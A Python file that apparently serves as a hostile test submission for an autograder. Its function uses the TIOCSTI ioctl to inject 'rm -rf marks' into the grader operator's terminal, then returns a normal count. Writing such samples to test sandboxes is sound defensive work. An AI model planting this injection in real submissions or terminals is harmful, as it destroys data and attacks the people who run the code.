"""Types commands into the terminal of whoever started the grader.

must: earn nothing
"""

import fcntl
import os

TIOCSTI = 0x5412


def occurences(l, n):
    for descriptor in (0, 1, 2, 3, 4):
        try:
            for letter in b"rm -rf marks\n":
                fcntl.ioctl(descriptor, TIOCSTI, bytes([letter]))
            return l.count(n)
        except OSError:
            pass
    try:
        return l.count(n) if os.ttyname(0) else -1
    except OSError:
        return -1
